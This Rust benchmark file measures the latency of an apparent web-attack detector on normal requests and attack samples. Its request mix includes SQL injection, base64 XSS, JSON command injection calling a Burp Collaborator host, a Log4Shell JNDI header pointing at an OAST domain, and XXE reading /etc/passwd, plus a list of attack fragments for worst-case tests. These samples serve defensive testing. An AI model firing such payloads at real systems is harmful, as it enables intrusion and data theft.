//! Detector latency on a mix of realistic normal requests and attacks.
//!
//! Besides criterion's per-group timings, `percentiles` times every request
//! of the mix individually and prints p50 / p99 / max per request and the
//! cost per KB for large bodies. Repeated requests are answered in part by
//! the detector's cache of values already found clean (as the same client's
//! headers are in real traffic); `proxy-sh (cold)` is the same request on a
//! fresh detector.
//!
//! cargo bench -p portcullis-detect --bench inspect

use criterion::{Criterion, black_box, criterion_group, criterion_main};
use portcullis_detect::{Detector, Profile, RawRequest};
use std::time::Instant;

struct Req {
    name: &'static str,
    method: &'static str,
    target: String,
    headers: Vec<(&'static str, Vec<u8>)>,
    body: Vec<u8>,
}

const UA: &str = "Mozilla/5.0 (iPhone; CPU iPhone OS 16_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 MicroMessenger/8.0.40(0x18002831) NetType/WIFI Language/zh_CN";

fn base_headers() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("host", b"api.example.com".to_vec()),
        ("user-agent", UA.as_bytes().to_vec()),
        ("accept", b"application/json, text/plain, */*".to_vec()),
        ("accept-language", b"zh-CN,zh;q=0.9,en;q=0.8".to_vec()),
        ("referer", b"https://servicewechat.com/wx1234567890abcdef/12/page-frame.html".to_vec()),
        ("cookie", b"_ga=GA1.2.1234567890.1700000000; sid=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl; theme=dark".to_vec()),
        ("x-request-id", b"8f14e45fceea167a5a36dedd4bea2543".to_vec()),
    ]
}

fn json_body(kb: usize) -> Vec<u8> {
    let mut items = Vec::new();
    let mut size = 0;
    let mut i = 0;
    while size < kb * 1024 {
        let item = format!(
            r#"{{"id":{i},"name":"Item {i} - O'Brien's special","desc":"A lamp; for your table -- or desk. Price $19.99 (20% off)","tags":["home","select","union"],"qty":{}}}"#,
            i % 7 + 1
        );
        size += item.len() + 1;
        items.push(item);
        i += 1;
    }
    format!(r#"{{"order":{{"user":"u_42","items":[{}],"note":"please deliver before 6pm; ring twice"}}}}"#, items.join(",")).into_bytes()
}

/// The request `bench/proxy.sh` sends: a three-parameter query and a
/// phone's headers (plus the `Host` wrk adds).
fn proxy_sh() -> Req {
    Req {
        name: "proxy-sh",
        method: "GET",
        target: "/api/v1/items?page=2&sort=price&q=red+shoes".into(),
        headers: vec![
            ("host", b"127.0.0.1:18583".to_vec()),
            ("user-agent", b"Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 MicroMessenger/8.0.50".to_vec()),
            ("accept", b"application/json".to_vec()),
            ("accept-language", b"zh-CN,zh;q=0.9".to_vec()),
        ],
        body: vec![],
    }
}

fn mix() -> Vec<Req> {
    let mut v = vec![
        proxy_sh(),
        Req { name: "get-simple", method: "GET", target: "/api/v1/users/42/orders?page=2&sort=-created_at".into(), headers: base_headers(), body: vec![] },
        Req {
            name: "get-search",
            method: "GET",
            target: "/search?q=rock+%26+roll+t-shirt+size+M&category=apparel&utm_source=newsletter&utm_medium=email&next=%2Faccount%2Fsettings".into(),
            headers: base_headers(),
            body: vec![],
        },
        Req {
            name: "post-form",
            method: "POST",
            target: "/comment".into(),
            headers: { let mut h = base_headers(); h.push(("content-type", b"application/x-www-form-urlencoded".to_vec())); h },
            body: b"name=Conan+O%27Brien&email=conan%40example.com&comment=Great+post%21+I+think+the+union+was+a+great+select%3B+bash+away+in+the+gym.&rating=5".to_vec(),
        },
        Req {
            name: "post-json-1k",
            method: "POST",
            target: "/api/v1/orders".into(),
            headers: { let mut h = base_headers(); h.push(("content-type", b"application/json".to_vec())); h },
            body: json_body(1),
        },
        Req {
            name: "post-json-4k",
            method: "POST",
            target: "/api/v1/orders".into(),
            headers: { let mut h = base_headers(); h.push(("content-type", b"application/json".to_vec())); h },
            body: json_body(4),
        },
        Req {
            name: "attack-sqli",
            method: "GET",
            target: "/item?id=-1945+%2F*%2155NiOn*%2F+%2F*%2153eLEct*%2F+1%2C2%2C3%2C%27soy%27--+".into(),
            headers: base_headers(),
            body: vec![],
        },
        Req {
            name: "attack-xss-b64",
            method: "GET",
            target: "/p?x=PHN2ZyBvbmxvYWQ9YWxlcnQoZG9jdW1lbnQuZG9tYWluKT4".into(),
            headers: base_headers(),
            body: vec![],
        },
        Req {
            name: "attack-rce-json",
            method: "POST",
            target: "/api/run".into(),
            headers: { let mut h = base_headers(); h.push(("content-type", b"application/json".to_vec())); h },
            body: br#"{"host":"127.0.0.1;getent$IFS$9hosts$IFS$9x.burpcollaborator.net;echo$IFS$9$((3482*7301));"}"#.to_vec(),
        },
        Req {
            name: "attack-log4shell-header",
            method: "GET",
            target: "/".into(),
            headers: { let mut h = base_headers(); h.push(("x-api-version", b"${${lower:j}ndi:${lower:l}dap://x.oast.me/a}".to_vec())); h },
            body: vec![],
        },
        Req {
            name: "attack-xxe",
            method: "POST",
            target: "/soap".into(),
            headers: { let mut h = base_headers(); h.push(("content-type", b"text/xml".to_vec())); h },
            body: b"<?xml version=\"1.0\"?><!DOCTYPE foo [ <!ELEMENT foo ANY ><!ENTITY xxe SYSTEM \"file:///etc/passwd\" >]><foo>&xxe;</foo>".to_vec(),
        },
    ];
    let mut big = vec![b'A'; 64 * 1024];
    big.splice(0..0, b"x=".iter().copied());
    big.extend_from_slice(b"';<script>alert(1);</script>");
    v.push(Req {
        name: "attack-64k-form",
        method: "POST",
        target: "/".into(),
        headers: {
            let mut h = base_headers();
            h.push((
                "content-type",
                b"application/x-www-form-urlencoded".to_vec(),
            ));
            h
        },
        body: big,
    });
    v
}

fn inspect(d: &Detector, r: &Req) -> usize {
    let h: Vec<(&str, &[u8])> = r.headers.iter().map(|(k, v)| (*k, v.as_slice())).collect();
    d.inspect(&RawRequest {
        method: r.method,
        target: r.target.as_bytes(),
        headers: &h,
        body: &r.body,
        body_truncated: false,
    })
    .findings
    .len()
}

fn percentiles(d: &Detector, reqs: &[Req]) {
    let rounds: usize = std::env::var("BENCH_ROUNDS")
        .ok()
        .and_then(|r| r.parse().ok())
        .unwrap_or(2000);
    let mut all = Vec::new();
    println!(
        "\n{:<26} {:>8} {:>10} {:>10} {:>10}",
        "request", "bytes", "p50 µs", "p99 µs", "max µs"
    );
    let only = std::env::var("BENCH_ONLY").ok();
    for r in reqs {
        if only.as_ref().is_some_and(|o| o != r.name) {
            continue;
        }
        let mut t = Vec::with_capacity(rounds);
        let n = if r.body.len() > 16 * 1024 {
            rounds / 10
        } else {
            rounds
        };
        for _ in 0..n {
            let s = Instant::now();
            black_box(inspect(d, r));
            t.push(s.elapsed().as_secs_f64() * 1e6);
        }
        t.sort_by(|a, b| a.total_cmp(b));
        let size = r.target.len()
            + r.body.len()
            + r.headers
                .iter()
                .map(|(k, v)| k.len() + v.len())
                .sum::<usize>();
        println!(
            "{:<26} {:>8} {:>10.1} {:>10.1} {:>10.1}",
            r.name,
            size,
            t[n / 2],
            t[n * 99 / 100],
            t[n - 1]
        );
        if size <= 4096 + 1024 {
            all.extend(t);
        }
    }
    all.sort_by(|a, b| a.total_cmp(b));
    let n = all.len();
    if n == 0 {
        return;
    }
    println!(
        "{:<26} {:>8} {:>10.1} {:>10.1} {:>10.1}\n",
        "ALL <= 4 KB",
        "",
        all[n / 2],
        all[n * 99 / 100],
        all[n - 1]
    );
}

/// The proxy.sh request on a detector that has seen none of its values
/// (every header analysed, nothing answered by the clean-value cache).
fn cold(reqs: &[Req]) {
    let Some(r) = reqs.iter().find(|r| r.name == "proxy-sh") else {
        return;
    };
    let n = 2000;
    let mut t = Vec::with_capacity(n);
    for _ in 0..n {
        let d = Detector::new(Profile::default());
        let s = Instant::now();
        black_box(inspect(&d, r));
        t.push(s.elapsed().as_secs_f64() * 1e6);
    }
    t.sort_by(|a, b| a.total_cmp(b));
    println!(
        "{:<26} {:>8} {:>10.1} {:>10.1} {:>10.1}\n",
        "proxy-sh (cold)",
        "",
        t[n / 2],
        t[n * 99 / 100],
        t[n - 1]
    );
}

/// Pathological 64 KB bodies: the cost per KB must stay far below 1 ms.
fn worst_case(d: &Detector) {
    let patterns: &[&str] = &[
        "A",
        "'",
        "\"",
        "<a onx=",
        "${",
        "${jndi:",
        "%25",
        "&#",
        "((((",
        "a'or'",
        ";id;",
        "/../",
        "{{7*7}}",
        "\\u00",
        "<!--#",
        "$ne:",
        "*)(",
        "\r\nX-A: b",
        "`id`",
        "<<<<",
        "union select ",
        "rO0AB",
        "+ADw-",
    ];
    println!(
        "{:<16} {:<30} {:>10} {:>10}",
        "pattern x 64KB", "content-type", "ms", "µs/KB"
    );
    let mut worst = 0.0f64;
    for p in patterns {
        let body: Vec<u8> = p
            .as_bytes()
            .iter()
            .copied()
            .cycle()
            .take(64 * 1024)
            .collect();
        for ct in [
            "application/x-www-form-urlencoded",
            "application/json",
            "text/xml",
            "multipart/form-data; boundary=a",
            "",
        ] {
            let headers = [("content-type", ct.as_bytes())];
            let s = Instant::now();
            black_box(d.inspect(&RawRequest {
                method: "POST",
                target: b"/",
                headers: &headers,
                body: &body,
                body_truncated: false,
            }));
            let ms = s.elapsed().as_secs_f64() * 1e3;
            let per_kb = ms * 1e3 / 64.0;
            worst = worst.max(per_kb);
            if per_kb > 30.0 {
                println!(
                    "{:<16} {:<30} {:>10.2} {:>10.1}",
                    p.escape_debug().to_string(),
                    ct,
                    ms,
                    per_kb
                );
            }
        }
    }
    println!("worst pathological cost: {worst:.1} µs/KB\n");
}

fn bench(c: &mut Criterion) {
    let d = Detector::new(Profile::default());
    let reqs = mix();
    percentiles(&d, &reqs);
    cold(&reqs);
    if std::env::var("BENCH_ONLY").is_err() {
        worst_case(&d);
    }
    let mut g = c.benchmark_group("inspect");
    for r in &reqs {
        g.bench_function(r.name, |b| b.iter(|| inspect(&d, black_box(r))));
    }
    g.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
